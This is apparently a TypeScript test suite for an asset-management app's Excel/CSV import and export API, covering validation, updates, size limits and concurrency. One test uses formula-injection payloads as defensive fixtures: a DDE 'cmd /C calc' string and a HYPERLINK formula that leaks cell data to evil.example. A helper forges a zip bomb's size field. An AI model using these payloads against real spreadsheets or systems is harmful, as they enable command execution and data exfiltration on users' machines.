/**
 * Bulk import and export through the real app: files are made here with SheetJS as a user's
 * Excel would make them, sent as POST api/Excel, and the outcome read back with GET api/Excel
 * and from the assets table.
 */
import * as XLSX from 'xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type {
  AssetClassifyInfo,
  DepartmentInfo,
  ExcelFile,
  ImportStarted,
  ImportStatus,
  LoginResult,
  StaffInfo,
} from '../../../src/api/contract.ts';
import type { Db, Queryable } from '../../db/db.ts';
import { silentLogger } from '../../log.ts';
import { companyIdOf, payload, registerAndLogin, snapshot, startTestServer, type TestServer } from '../../testing/harness.ts';
import { failingAt } from '../../testing/failing-db.ts';
import { loadActor } from '../access/service.ts';
import { takeOverExpiredJobs } from './resume.ts';
import { importsSettled, startImport, WRITE_CHUNK } from './service.ts';

let server: TestServer;
let admin: LoginResult;
let laptop: AssetClassifyInfo;
const dept = {} as Record<'sales' | 'salesEast' | 'ops' | 'opsEast', DepartmentInfo>;
const staff = {} as Record<'li' | 'zhang1' | 'zhang2', StaffInfo>;

const ZH_HEADER = ['资产编码', '资产名称', '规格型号', '计量单位', '供应商', '购买日期', '购买价格(元)', '折旧周期(月)', '所属部门', '使用人', '存放地点', '资产分类'];
const EN_HEADER = [
  'Asset code',
  'Asset name',
  'Specifications',
  'Unit',
  'Supplier',
  'Purchase date',
  'Purchase price (yuan)',
  'Depreciation period (months)',
  'Department',
  'User',
  'Location',
  'Classification',
];
const ATTRIBUTES = ['Colour', 'Warranty until', 'Checked at', 'Serial'];

beforeAll(async () => {
  server = await startTestServer();
  admin = await registerAndLogin(server, 'import@example.com', 'pw', 'Import Co');
  dept.sales = payload(await call<DepartmentInfo>('POST', '/api/Department', { deptName: 'Sales' }));
  dept.salesEast = payload(await call<DepartmentInfo>('POST', '/api/Department', { deptName: 'East', affiliatedDept: dept.sales.id }));
  dept.ops = payload(await call<DepartmentInfo>('POST', '/api/Department', { deptName: 'Ops' }));
  dept.opsEast = payload(await call<DepartmentInfo>('POST', '/api/Department', { deptName: 'East', affiliatedDept: dept.ops.id }));
  staff.li = payload(await call<StaffInfo>('POST', '/api/Staff', { staffName: 'Li Na', affiliatedDept: dept.salesEast.id }));
  staff.zhang1 = payload(await call<StaffInfo>('POST', '/api/Staff', { staffName: 'Zhang Wei', jobNumber: 'E-1', affiliatedDept: dept.sales.id }));
  staff.zhang2 = payload(await call<StaffInfo>('POST', '/api/Staff', { staffName: 'Zhang Wei', jobNumber: 'E-2', affiliatedDept: dept.ops.id }));
  laptop = payload(
    await call<AssetClassifyInfo>('POST', '/api/AssetClassify', {
      classifyName: 'Laptop',
      attributes: [
        { name: 'Colour', attributeType: 1, items: ['Black', 'Silver'] },
        { name: 'Warranty until', attributeType: 2 },
        { name: 'Checked at', attributeType: 3 },
        { name: 'Serial', attributeType: 0 },
      ],
    }),
  );
});
afterAll(() => server?.close());

function call<T>(method: string, path: string, body?: unknown, lang = 'en', token = admin.loginID) {
  return server.call<T>(method, path, { token, body, lang });
}

type Row = (string | number | null)[];

/** A workbook of one sheet as base64, in a spreadsheet format; CSV as UTF-8. */
function fileOf(rows: Row[], bookType: 'xlsx' | 'xls' | 'csv'): string {
  const workbook = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(workbook, XLSX.utils.aoa_to_sheet(rows), 'Sheet1');
  if (bookType === 'csv') return Buffer.from(XLSX.write(workbook, { type: 'string', bookType: 'csv' }), 'utf8').toString('base64');
  return XLSX.write(workbook, { type: 'base64', bookType, compression: true });
}

async function importFile(fileData: string, suffix: string, extra: Record<string, unknown> = {}, token = admin.loginID) {
  const started = await call<ImportStarted>('POST', '/api/Excel', { explain: 3, suffix, fileData, fileName: `assets.${suffix}`, ...extra }, 'en', token);
  if (started.body.statusCode !== 0) return { refused: started.body };
  await importsSettled();
  const status = payload(await call<ImportStatus>('GET', `/api/Excel?jobId=${started.body.resultInfo.jobId}`, undefined, 'en', token));
  return { started: started.body.resultInfo, status };
}

/** The import columns of every asset, by code: what a file can change. */
async function assetTable(db: Queryable = server.db): Promise<string> {
  const { rows } = await db.query(
    `SELECT asset_coding, asset_name, specifications, unit, supplier, buy_date, buy_price, loss_cycle, dept_id, staff_id,
            deposit_site, classify_id, attribute_values FROM assets ORDER BY asset_coding`,
  );
  return JSON.stringify(rows);
}
/** Two assetTable() results are equal; on a difference, shows the first row that differs (not 10,000). */
function expectSameTable(actual: string, expected: string, label: string): void {
  if (actual === expected) return;
  const a = JSON.parse(actual) as unknown[];
  const b = JSON.parse(expected) as unknown[];
  const i = Math.max(0, a.findIndex((row, n) => JSON.stringify(row) !== JSON.stringify(b[n])));
  expect({ label, rows: a.length, row: a[i] }).toEqual({ label, rows: b.length, row: b[i] });
}
const assetCount = async () => (await server.db.query<{ n: number }>('SELECT count(*)::int AS n FROM assets')).rows[0].n;

// ---- the 10,000-row file ------------------------------------------------------------------

const ROWS = 10_000;
/** Spreadsheet row (header = row 1) → what is wrong with it, and the reason reported. */
const BAD: Record<number, { patch: (row: Row) => void; reason: string }> = {
  101: { patch: (r) => (r[1] = ''), reason: 'Please enter the asset name.' },
  502: { patch: (r) => (r[6] = -5), reason: 'Purchase price (yuan) must be an amount of at least 0 with at most 2 decimals.' },
  1003: { patch: (r) => (r[5] = '2029-02-30'), reason: 'Purchase date must be a valid date (YYYY-MM-DD).' },
  2004: { patch: (r) => (r[8] = 'Nowhere'), reason: 'No department "Nowhere" within your authorized scope.' },
  3005: { patch: (r) => (r[8] = 'East'), reason: 'Several departments are called "East": Ops/East, Sales/East. Write the path of the one you mean, e.g. "Ops/East".' },
  4006: { patch: (r) => (r[9] = 'Zhang Wei'), reason: 'Several staff members are called "Zhang Wei". Write "Name(job number)".' },
  5007: { patch: (r) => (r[11] = 'Car'), reason: 'No classification "Car".' },
  6008: { patch: (r) => ((r[11] = 'Laptop'), (r[12] = 'Gold')), reason: '"Colour" must be one of: Black, Silver.' },
  7009: { patch: (r) => (r[0] = 'IM-00010'), reason: 'The asset code "IM-00010" repeats row 11.' },
  8010: { patch: (r) => (r[7] = 'many'), reason: 'The depreciation period must be a whole number of months, at least 0.' },
  9011: { patch: (r) => ((r[11] = ''), (r[12] = 'Black')), reason: 'Choose a classification before filling in custom attributes (Colour).' },
  [ROWS + 1]: { patch: (r) => ((r[11] = 'Laptop'), (r[14] = '9:75')), reason: '"Checked at" must be a valid time (HH:mm or HH:mm:ss).' },
};
const DEPTS = ['Sales', 'Sales/East', 'Ops', 'Ops / East'];
const USERS = ['', 'Li Na', 'Zhang Wei(E-1)', 'zhang wei（E-2）'];

function bigSheet(): Row[] {
  const rows: Row[] = [[...ZH_HEADER, ...ATTRIBUTES]];
  for (let i = 1; i <= ROWS; i++) {
    const isLaptop = i % 2 === 0;
    const row: Row = [
      `IM-${String(i).padStart(5, '0')}`,
      `Asset ${i}`,
      // Sparse, to keep the .xls (no compression in that format) under the 3 MB limit.
      i % 10 === 0 ? 'S' : null,
      i % 10 === 0 ? 'pcs' : null,
      i % 10 === 0 ? 'Sup' : null,
      '2029-06-01',
      (i % 1000) + 0.5,
      36,
      DEPTS[i % 4],
      USERS[i % 4] || null,
      'R1',
      // Empty cells as Excel leaves them: absent.
      isLaptop ? 'Laptop' : null,
      isLaptop ? 'Black' : null,
      isLaptop ? '2031-01-01' : null,
      isLaptop ? '09:30' : null,
      isLaptop ? `SN${i}` : null,
    ];
    BAD[i + 1]?.patch(row);
    rows.push(row);
  }
  return rows;
}

const expectedErrors = Object.entries(BAD).map(([row, { reason }]) => ({ row: Number(row), reason }));

describe('import of 10,000 rows', () => {
  let xlsxTable: string;
  const sheet = bigSheet();

  it('reports exactly the bad rows, with row numbers and reasons, and saves the rest (.xlsx)', async () => {
    const { started, status, refused } = await importFile(fileOf(sheet, 'xlsx'), 'xlsx');
    expect(refused).toBeUndefined();
    expect(started).toEqual({ jobId: expect.any(Number), totalRows: ROWS });
    expect(status).toMatchObject({
      status: 'success',
      fileName: 'assets.xlsx',
      done: ROWS,
      total: ROWS,
      created: ROWS - expectedErrors.length,
      updated: 0,
      unchanged: 0,
      errorCount: expectedErrors.length,
      allOrNothing: false,
      finishedAt: expect.any(String),
    });
    expect(status!.errors).toEqual(expectedErrors);
    expect(await assetCount()).toBe(ROWS - expectedErrors.length);
    // Names resolved: paths, "Name(job number)" in any bracket and case, attributes by classification.
    const { rows } = await server.db.query<Record<string, unknown>>(
      "SELECT asset_coding, dept_id, staff_id, classify_id, attribute_values, buy_price FROM assets WHERE asset_coding IN ('IM-00002', 'IM-00003') ORDER BY asset_coding",
    );
    expect(rows).toEqual([
      {
        asset_coding: 'IM-00002',
        dept_id: dept.ops.id,
        staff_id: staff.zhang1.id,
        classify_id: laptop.id,
        attribute_values: { Colour: 'Black', 'Warranty until': '2031-01-01', 'Checked at': '09:30', Serial: 'SN2' },
        buy_price: '2.50',
      },
      { asset_coding: 'IM-00003', dept_id: dept.opsEast.id, staff_id: staff.zhang2.id, classify_id: null, attribute_values: {}, buy_price: '3.50' },
    ]);
    const zh = payload(await call<ImportStatus>('GET', '/api/Excel', undefined, 'zh-CN'));
    expect(zh.errors?.[0]).toEqual({ row: 101, reason: '请输入资产名称。' });
    xlsxTable = await assetTable();
  });

  it('gives the same result for the same rows as .csv and as .xls', async () => {
    for (const bookType of ['csv', 'xls'] as const) {
      await server.db.query('DELETE FROM assets');
      const file = fileOf(sheet, bookType);
      expect(Buffer.from(file, 'base64').length, bookType).toBeLessThanOrEqual(3 * 1024 * 1024);
      const { status } = await importFile(file, bookType);
      expect(status, bookType).toMatchObject({ status: 'success', created: ROWS - expectedErrors.length, errorCount: expectedErrors.length });
      expect(status!.errors, bookType).toEqual(expectedErrors);
      expectSameTable(await assetTable(), xlsxTable, bookType);
    }
  });

  it('exports what the list shows, and re-importing the export changes nothing', async () => {
    const exported = payload(await call<ExcelFile>('GET', '/api/Excel/Export?sortKey=assetCoding', undefined, 'zh-CN'));
    expect(exported).toMatchObject({ fileName: '资产列表 2030-01-15.xlsx', rowCount: ROWS - expectedErrors.length });
    const book = XLSX.read(Buffer.from(exported.fileData, 'base64'));
    expect(book.SheetNames).toEqual(['资产', '_assetmark']);
    const rows = XLSX.utils.sheet_to_json<Row>(book.Sheets['资产'], { header: 1, raw: true, defval: null });
    expect(rows[0]).toEqual([...ZH_HEADER, ...ATTRIBUTES]);
    expect(rows[1]).toEqual(['IM-00001', 'Asset 1', '', '', '', '2029-06-01', 1.5, 36, 'Sales/East', 'Li Na', 'R1', null, null, null, null, null]);
    expect(rows[10]).toEqual(['IM-00010', 'Asset 10', 'S', 'pcs', 'Sup', '2029-06-01', 10.5, 36, 'Ops', 'Zhang Wei(E-1)', 'R1', 'Laptop', 'Black', '2031-01-01', '09:30', 'SN10']);
    const english = payload(await call<ExcelFile>('GET', `/api/Excel/Export?classify=${laptop.id}&search=asset%2010`));
    expect(english.fileName).toBe('asset list 2030-01-15.xlsx');
    const englishRows = XLSX.utils.sheet_to_json<Row>(XLSX.read(Buffer.from(english.fileData, 'base64')).Sheets.Assets, { header: 1 });
    expect(englishRows[0]).toEqual([...EN_HEADER, ...ATTRIBUTES]);
    expect(englishRows.length - 1).toBe(english.rowCount);

    const before = await snapshot(server.db);
    const { status } = await importFile(exported.fileData, 'xlsx');
    expect(status).toMatchObject({ status: 'success', created: 0, updated: 0, unchanged: ROWS - expectedErrors.length, errorCount: 0 });
    const after = await snapshot(server.db);
    expect(after.assets).toEqual(before.assets);
  });
});

// ---- smaller files -------------------------------------------------------------------------

describe('import rules', () => {
  const small = (rows: Row[], header: string[] = ZH_HEADER) => fileOf([header, ...rows], 'xlsx');

  it('saves none of the rows when all-or-nothing is asked and a row is bad', async () => {
    const before = await snapshot(server.db);
    const file = small([
      ['AON-1', 'Fine', '', '', '', '', 10, '', 'Sales', '', '', ''],
      ['AON-2', '', '', '', '', '', 10, '', 'Sales', '', '', ''],
    ]);
    const { status } = await importFile(file, 'xlsx', { allOrNothing: true });
    expect(status).toMatchObject({
      status: 'error',
      created: 0,
      errorCount: 1,
      errors: [{ row: 3, reason: 'Please enter the asset name.' }],
      message: '1 row has problems; as all-or-nothing was asked, nothing was saved.',
      allOrNothing: true,
    });
    const after = await snapshot(server.db);
    expect(after.assets).toEqual(before.assets);
    // Without it, the good row is saved.
    expect((await importFile(file, 'xlsx')).status).toMatchObject({ status: 'success', created: 1, errorCount: 1 });
  });

  it('quotes exported text a spreadsheet program would evaluate (OWASP), and reads it back unchanged', async () => {
    const evil = payload(await call<DepartmentInfo>('POST', '/api/Department', { deptName: '=cmd|\' /C calc\'!A0' }));
    const formulas = payload(
      await call<AssetClassifyInfo>('POST', '/api/AssetClassify', { classifyName: '@Formulas', attributes: [{ name: '+Note', attributeType: 0 }] }),
    );
    const name = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    payload(
      await call('POST', '/api/Asset', {
        assetCoding: '-INJ-1',
        assetName: name,
        specifications: '+41 79 555 0101',
        supplier: "'=already quoted",
        depositSite: '=1+1',
        affiliatedDept: evil.id,
        classify: formulas.id,
        attributeValues: { '+Note': '-2+3' },
      }),
    );
    const exported = payload(await call<ExcelFile>('GET', '/api/Excel/Export?search=INJ-1', undefined, 'en'));
    expect(exported.rowCount).toBe(1);
    const book = XLSX.read(Buffer.from(exported.fileData, 'base64'));
    const sheet = book.Sheets.Assets;
    const rows = XLSX.utils.sheet_to_json<Row>(sheet, { header: 1, raw: true, defval: null });
    expect(rows[0]).toEqual([...EN_HEADER, "'+Note"]);
    expect(rows[1]).toEqual([
      "'-INJ-1",
      `'${name}`,
      "'+41 79 555 0101",
      '',
      "''=already quoted",
      null,
      null,
      null,
      "'=cmd|' /C calc'!A0",
      null,
      "'=1+1",
      "'@Formulas",
      "'-2+3",
    ]);
    // Written as text cells, no formula among them.
    for (const [ref, cell] of Object.entries(sheet)) if (!ref.startsWith('!')) expect((cell as XLSX.CellObject).f).toBeUndefined();
    // The template's attribute headers are quoted too.
    const template = payload(await call<ExcelFile>('GET', `/api/Excel/Template?classifyId=${formulas.id}`));
    const templateRows = XLSX.utils.sheet_to_json<Row>(XLSX.read(Buffer.from(template.fileData, 'base64')).Sheets.Assets, { header: 1 });
    expect(templateRows[0]).toEqual([...EN_HEADER, "'+Note"]);

    const before = await snapshot(server.db);
    const { status } = await importFile(exported.fileData, 'xlsx');
    expect(status).toMatchObject({ status: 'success', created: 0, updated: 0, unchanged: 1, errorCount: 0 });
    expect((await snapshot(server.db)).assets).toEqual(before.assets);
    const { rows: saved } = await server.db.query('SELECT asset_name, supplier, deposit_site FROM assets WHERE asset_coding = $1', ['-INJ-1']);
    expect(saved).toEqual([{ asset_name: name, supplier: "'=already quoted", deposit_site: '=1+1' }]);
  });

  it('updates assets by code: given columns change, missing columns stay, empty cells clear', async () => {
    payload(await call('POST', '/api/Asset', { assetCoding: 'UPD-1', assetName: 'Before', unit: 'box', buyPrice: 5, affiliatedDept: dept.sales.id, epc: 'E1' }));
    // Excel dates as serial numbers, en headers, columns in another order, unit left out.
    const rows: Row[] = [
      ['Asset name', 'Asset code', 'Purchase date', 'Purchase price', 'Department', 'Location'],
      ['After', 'UPD-1', 47150, null, 'Sales', ''],
    ];
    const { status } = await importFile(fileOf(rows, 'xlsx'), 'xlsx');
    expect(status).toMatchObject({ status: 'success', created: 0, updated: 1, errorCount: 0 });
    const { rows: saved } = await server.db.query('SELECT asset_name, unit, buy_date, buy_price, dept_id, epc FROM assets WHERE asset_coding = $1', ['UPD-1']);
    expect(saved).toEqual([{ asset_name: 'After', unit: 'box', buy_date: '2029-02-01', buy_price: null, dept_id: dept.sales.id, epc: 'E1' }]);
    // A registered asset's department, user and place change through transactions only: a row
    // naming others is refused (README "Asset transactions").
    const moved = await importFile(fileOf([rows[0], ['Moved', 'UPD-1', 47150, null, 'Sales/East', '']], 'xlsx'), 'xlsx');
    expect(moved.status).toMatchObject({
      errorCount: 1,
      errors: [{ row: 2, reason: expect.stringContaining('change only through an alter, receive, borrow or return transaction') }],
    });
    expect((await server.db.query('SELECT asset_name, dept_id FROM assets WHERE asset_coding = $1', ['UPD-1'])).rows).toEqual([
      { asset_name: 'After', dept_id: dept.sales.id },
    ]);
  });

  it('gives rows without a code a generated one, and takes the template’s classification for empty cells', async () => {
    const template = payload(await call<ExcelFile>('GET', `/api/Excel/Template?classifyId=${laptop.id}`, undefined, 'zh'));
    expect(template.fileName).toBe('资产导入模板 Laptop.xlsx');
    const book = XLSX.read(Buffer.from(template.fileData, 'base64'));
    const header = XLSX.utils.sheet_to_json<Row>(book.Sheets[book.SheetNames[0]], { header: 1 })[0];
    expect(header).toEqual([...ZH_HEADER, ...ATTRIBUTES]);
    XLSX.utils.sheet_add_aoa(book.Sheets[book.SheetNames[0]], [['', 'Generated', '', '', '', '', '', '', 'Ops', '', '', '', 'Silver']], { origin: 'A2' });
    const { status } = await importFile(XLSX.write(book, { type: 'base64', bookType: 'xlsx' }), 'xlsx');
    expect(status).toMatchObject({ status: 'success', created: 1 });
    const { rows } = await server.db.query<{ asset_coding: string; classify_id: number; attribute_values: unknown }>(
      "SELECT asset_coding, classify_id, attribute_values FROM assets WHERE asset_name = 'Generated'",
    );
    expect(rows[0]).toEqual({ asset_coding: expect.stringMatching(/^ZC\d{8,}$/), classify_id: laptop.id, attribute_values: { Colour: 'Silver' } });
  });

  it('answers 10009 for a template made before its classification changed, or an unknown column', async () => {
    const desk = payload(await call<AssetClassifyInfo>('POST', '/api/AssetClassify', { classifyName: 'Desk', attributes: [{ name: 'Wood', attributeType: 0 }] }));
    const template = payload(await call<ExcelFile>('GET', `/api/Excel/Template?classifyId=${desk.id}`));
    const book = XLSX.read(Buffer.from(template.fileData, 'base64'));
    XLSX.utils.sheet_add_aoa(book.Sheets[book.SheetNames[0]], [['DESK-1', 'Desk', '', '', '', '', '', '', 'Ops', '', '', '', 'oak']], { origin: 'A2' });
    const filled = XLSX.write(book, { type: 'base64', bookType: 'xlsx' });
    // Renamed: the attributes are the same, the template still fits.
    payload(await call('POST', '/api/AssetClassify', { id: desk.id, classifyName: 'Desks' }));
    payload(await call('POST', '/api/AssetClassify', { id: desk.id, classifyName: 'Desk', attributes: [{ name: 'Wood', attributeType: 0 }, { name: 'Legs', attributeType: 0 }] }));
    const before = await snapshot(server.db);
    const stale = { statusCode: 10009, resultInfo: 'Please download the latest template and try again.' };
    expect((await importFile(filled, 'xlsx')).refused).toEqual(stale);
    expect((await call('POST', '/api/Excel', { explain: 3, suffix: 'xlsx', fileData: filled }, 'zh')).body.resultInfo).toBe('请下载最新模板后重试。');
    // A CSV (no marker) with a column that names no attribute, or without the name column.
    expect((await importFile(fileOf([[...ZH_HEADER, 'Horsepower'], ['C-1', 'Car', '', '', '', '', '', '', 'Ops', '', '', '', '300']], 'csv'), 'csv')).refused).toEqual(stale);
    expect((await importFile(fileOf([['资产编码', '备注'], ['C-1', 'x']], 'csv'), 'csv')).refused).toEqual(stale);
    expect(await snapshot(server.db)).toEqual(before);
  });

  it('refuses no file (10003), other types (10004), over 3 MB (10005), unreadable files (10006), with the spec messages', async () => {
    const before = await snapshot(server.db);
    const refuse = async (body: Record<string, unknown>, lang = 'en') => (await call('POST', '/api/Excel', { explain: 3, ...body }, lang)).body;
    expect(await refuse({ suffix: 'xlsx' })).toEqual({ statusCode: 10003, resultInfo: 'No Excel file was imported.' });
    expect(await refuse({ suffix: 'xlsx', fileData: '' })).toEqual({ statusCode: 10003, resultInfo: 'No Excel file was imported.' });
    expect(await refuse({ suffix: 'xlsx', fileData: fileOf([ZH_HEADER], 'xlsx') })).toEqual({ statusCode: 10003, resultInfo: 'The file contains no asset rows.' });
    const wrongType = { statusCode: 10004, resultInfo: 'Only .xlsx, .xls or .csv files can be imported.' };
    expect(await refuse({ suffix: 'pdf', fileData: fileOf([ZH_HEADER], 'xlsx') })).toEqual(wrongType);
    expect(await refuse({ fileName: 'assets.numbers', fileData: fileOf([ZH_HEADER], 'xlsx') })).toEqual(wrongType);
    // A picture under a spreadsheet's suffix is no spreadsheet at all (10006, not 10004).
    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]).toString('base64');
    expect((await refuse({ suffix: 'csv', fileData: png })).statusCode).toBe(10006);
    expect((await refuse({ suffix: 'xls', fileData: png }, 'zh')).resultInfo).toMatch(/^文件解析出现异常：该文件不是可读取的表格/);
    const tooLarge = { statusCode: 10005, resultInfo: 'The imported file cannot be larger than 3MB.' };
    const big = Buffer.alloc(3 * 1024 * 1024 + 1, 'a').toString('base64');
    expect(await refuse({ suffix: 'csv', fileData: big })).toEqual(tooLarge);
    // Far over: refused by the body limit with the same message.
    expect(await refuse({ suffix: 'csv', fileData: Buffer.alloc(6 * 1024 * 1024, 'a').toString('base64') })).toEqual(tooLarge);
    const zip = Buffer.from('PK\u0003\u0004 this is no workbook').toString('base64');
    const parse = await refuse({ suffix: 'xlsx', fileData: zip });
    expect(parse.statusCode).toBe(10006);
    expect(parse.resultInfo).toMatch(/^File parsing exception occurred: .+\. Please check that the file follows the template\.$/);
    expect((await refuse({ suffix: 'xlsx', fileData: zip }, 'zh')).resultInfo).toMatch(/^文件解析出现异常：/);
    // A zip bomb: a real workbook whose directory claims 300 MB unpacked is refused before
    // SheetJS unpacks anything (a 3 MB upload could otherwise unpack to gigabytes).
    const bomb = claimUnpackedSize(Buffer.from(fileOf([ZH_HEADER, ['A-1', 'Laptop']], 'xlsx'), 'base64'), 300 * 1024 * 1024);
    expect(await refuse({ suffix: 'xlsx', fileData: bomb.toString('base64') })).toEqual({
      statusCode: 10005,
      resultInfo: 'The file is too large once unpacked (at least 300 MB; at most 256 MB).',
    });
    expect((await refuse({ suffix: 'xlsx', fileData: bomb.toString('base64') }, 'zh')).resultInfo).toBe('文件解压后过大（至少 300 MB，最多 256 MB）。');
    expect(await snapshot(server.db)).toEqual(before);
    // Sub-users need 101 to import (checked before anything else).
    expect((await server.call('POST', '/api/Excel', { body: { suffix: 'csv' } })).body.statusCode).toBe(19);
  });

  it('reports a corrupt or non-spreadsheet file renamed .xlsx as unreadable (10006) in the user\'s language, not as a stale template', async () => {
    const before = await snapshot(server.db);
    const refuse = async (suffix: string, bytes: Uint8Array, lang = 'en') =>
      (await call('POST', '/api/Excel', { explain: 3, suffix, fileData: Buffer.from(bytes).toString('base64') }, lang)).body;
    const unreadableEn = {
      statusCode: 10006,
      resultInfo:
        'File parsing exception occurred: this file is not a readable spreadsheet (.xlsx, .xls or .csv), or it is damaged. Save it as .xlsx in Excel and import it again.',
    };
    const unreadableZh = {
      statusCode: 10006,
      resultInfo: '文件解析出现异常：该文件不是可读取的表格（.xlsx、.xls 或 .csv），或已损坏。请用 Excel 另存为 .xlsx 后再导入。',
    };
    const text = Buffer.from('Meeting notes\nBring the laptops back on Friday.\n');
    const pdf = Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n\x01\x02', 'latin1');
    const jpeg = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01]);
    for (const bytes of [text, pdf, jpeg]) {
      expect(await refuse('xlsx', bytes)).toEqual(unreadableEn);
      expect(await refuse('xlsx', bytes, 'zh')).toEqual(unreadableZh);
    }
    // A truncated .xls (an OLE file SheetJS fails on): 10006 in the user's language, not
    // SheetJS's English exception text.
    const workbook = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(workbook, XLSX.utils.aoa_to_sheet([ZH_HEADER, ['X-1', 'Laptop']]), 'Sheet1');
    const xls = XLSX.write(workbook, { type: 'buffer', bookType: 'biff8' }) as Buffer;
    const cut = xls.subarray(0, 600);
    expect(await refuse('xls', cut, 'zh')).toEqual({ statusCode: 10006, resultInfo: '文件解析出现异常：文件已损坏或不完整。请检查文件是否按模板填写。' });
    // What stays as it was: a real CSV whose headers are of another time is 10009; text
    // named .xls (tab-separated, as some systems save it) is read.
    expect((await refuse('csv', Buffer.from(`资产编码,备注\nC-1,x\n`))).statusCode).toBe(10009);
    expect((await refuse('xls', Buffer.from(`资产编码\t备注\nC-1\tx\n`))).statusCode).toBe(10009);
    expect(await snapshot(server.db)).toEqual(before);
  });

  it('runs one import per company at a time (10007)', async () => {
    const companyId = await companyIdOf(server.db, admin.Id);
    const actor = await loadActor(server.db, { userId: admin.Id, companyId });
    const file = fileOf([ZH_HEADER, ['BUSY-1', 'Busy', '', '', '', '', '', '', 'Ops', '', '', '']], 'csv');
    // The first import waits at its write phase until released, so the second request
    // always meets a running job, however fast the database is.
    let release!: () => void;
    const gate = new Promise<void>((resolve) => (release = resolve));
    const held: Db = { ...server.db, transaction: async (fn) => (await gate, server.db.transaction(fn)) };
    const deps = { db: held, clock: server.clock.now, timeZone: 'Asia/Shanghai', log: silentLogger };
    const first = await startImport(deps, actor, { fileData: file, suffix: 'csv' });
    const second = await call('POST', '/api/Excel', { suffix: 'csv', fileData: file });
    expect(second.body).toEqual({ statusCode: 10007, resultInfo: 'Another import is running. Please try again when it has finished.' });
    expect(payload(await call<ImportStatus>('GET', '/api/Excel')).jobId).toBe(first.jobId);
    release();
    await first.finished;
    expect(payload(await call<ImportStatus>('GET', '/api/Excel'))).toMatchObject({ jobId: first.jobId, status: 'success', created: 1 });
    expect((await call('POST', '/api/Excel', { suffix: 'csv', fileData: file })).body.statusCode).toBe(0);
    await importsSettled();
  });

  it('leaves nothing written when the write phase fails, and marks the job failed', async () => {
    const companyId = await companyIdOf(server.db, admin.Id);
    const actor = await loadActor(server.db, { userId: admin.Id, companyId });
    const rows: Row[] = [ZH_HEADER];
    for (let i = 0; i < WRITE_CHUNK * 2 + 10; i++) rows.push([`CRASH-${i}`, 'Crash', '', '', '', '', 1, '', 'Ops', '', '', '']);
    // The second INSERT of the write transaction fails, after the first has written its rows.
    const failing = failingAt(server.db, 'INSERT INTO assets', 2, 'disk full (injected)');
    const before = await snapshot(server.db);
    const deps = { db: failing.db, clock: server.clock.now, timeZone: 'Asia/Shanghai', log: silentLogger };
    const started = await startImport(deps, actor, { fileData: fileOf(rows, 'csv'), suffix: 'csv' });
    await started.finished;
    expect(failing.seen()).toBe(2);
    const after = await snapshot(server.db);
    expect(after.assets).toEqual(before.assets);
    const status = payload(await call<ImportStatus>('GET', `/api/Excel?jobId=${started.jobId}`));
    expect(status).toMatchObject({ status: 'error', created: 0, message: 'The import failed and nothing was saved. Please try again.' });
  });

  it('fails an import left running by a stopped server without its file (from before leases) when taken over, which frees the company', async () => {
    const companyId = await companyIdOf(server.db, admin.Id);
    const { rows } = await server.db.query<{ id: number }>(
      `INSERT INTO import_jobs (company_id, user_id, file_name, status, total_rows) VALUES ($1, $2, 'died.xlsx', 'importing', 5) RETURNING id`,
      [companyId, admin.Id],
    );
    const file = fileOf([ZH_HEADER, ['LATER-1', 'Later', '', '', '', '', '', '', 'Ops', '', '', '']], 'csv');
    expect((await call('POST', '/api/Excel', { suffix: 'csv', fileData: file })).body.statusCode).toBe(10007);
    const deps = { db: server.db, clock: server.clock.now, timeZone: 'Asia/Shanghai', log: silentLogger };
    expect(await takeOverExpiredJobs(deps)).toBe(1);
    await importsSettled();
    expect(payload(await call<ImportStatus>('GET', `/api/Excel?jobId=${rows[0].id}`, undefined, 'zh'))).toMatchObject({
      status: 'error',
      message: '导入因服务重启而中断，没有保存任何数据，请重新导入。',
    });
    expect((await importFile(file, 'csv')).status).toMatchObject({ status: 'success', created: 1 });
    expect((await call('GET', '/api/Excel?jobId=999999999')).body.statusCode).toBe(28);
  });

  it('answers "none" before any import, and templates and exports as downloads on request', async () => {
    const other = await registerAndLogin(server, 'import-other@example.com', 'pw', 'Fresh Co');
    expect(payload(await call<ImportStatus>('GET', '/api/Excel', undefined, 'en', other.loginID))).toEqual({ status: 'none' });
    const download = await server.app.request('/api/Excel/Template?download=1', { headers: { loginID: admin.loginID, 'Accept-Language': 'en' } });
    expect(download.headers.get('Content-Type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(download.headers.get('Content-Disposition')).toContain("filename*=UTF-8''asset%20import%20template.xlsx");
    const book = XLSX.read(Buffer.from(await download.arrayBuffer()));
    expect(XLSX.utils.sheet_to_json<Row>(book.Sheets.Assets, { header: 1 })[0]).toEqual(EN_HEADER);
    expect(book.Workbook?.Sheets?.[1]).toMatchObject({ Hidden: 2 });
    const exported = await server.app.request('/api/Excel/Export?download=1&pageSize=20', { headers: { loginID: other.loginID } });
    expect(exported.headers.get('Content-Disposition')).toContain(encodeURIComponent('资产列表 2030-01-15.xlsx'));
    expect((await call('GET', `/api/Excel/Template?classifyId=999999999`)).body.statusCode).toBe(28);
  });
});

/** `xlsx` with its first central-directory entry claiming `size` bytes unpacked (a zip bomb's lie). */
function claimUnpackedSize(xlsx: Buffer, size: number): Buffer {
  const out = Buffer.from(xlsx);
  const central = out.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
  if (central < 0) throw new Error('no central directory in the test workbook');
  out.writeUInt32LE(size, central + 24); // uncompressed size field, bytes
  return out;
}
